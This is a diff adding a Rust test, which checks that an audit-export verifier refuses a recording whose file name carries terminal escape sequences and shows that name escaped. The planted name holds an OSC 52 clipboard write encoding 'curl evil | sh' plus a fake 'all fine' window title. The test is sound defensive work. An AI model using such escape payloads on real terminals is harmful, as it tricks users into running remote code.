@@ -343,3 +343,31 @@ fn missing_and_unvouched_recordings_and_a_forged_final_hash_are_refused() {
     assert!(r.chain.problem.is_some());
     assert!(r.sessions.is_empty());
 }
+
+#[test]
+fn a_file_name_planted_in_an_export_cannot_talk_to_the_auditors_terminal() {
+    // `audit verify` is run on exports that may have been tampered with:
+    // a recording named with terminal escapes (a clipboard write, a
+    // title) is refused, and the refusal names it escaped.
+    let (ca, host) = (key(), key());
+    let (header, chunks, final_hash) = recording(&host);
+    let dir = export(good_chain(&ca, &host, &final_hash), &host, &header, &chunks);
+    let planted = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2gK\u{7}\u{1b}]0;all fine\u{7}";
+    std::fs::write(
+        dir.path()
+            .join(SESSIONS_DIR)
+            .join(format!("{planted}{RECORDING_EXT}")),
+        b"x",
+    )
+    .unwrap();
+    let ca_file = dir.path().join("ca.pub");
+    std::fs::write(&ca_file, ca.public_key().to_openssh().unwrap()).unwrap();
+    let e = crate::commands::audit_verify(dir.path(), &ca_file, false).unwrap_err();
+    let shown = e.for_terminal();
+    assert!(shown.contains("no session_started record"), "{shown}");
+    assert!(
+        !shown.contains(['\u{1b}', '\u{7}']),
+        "printed with its escapes: {shown:?}"
+    );
+    assert!(shown.contains("\\u{001b}]52"), "{shown}");
+}
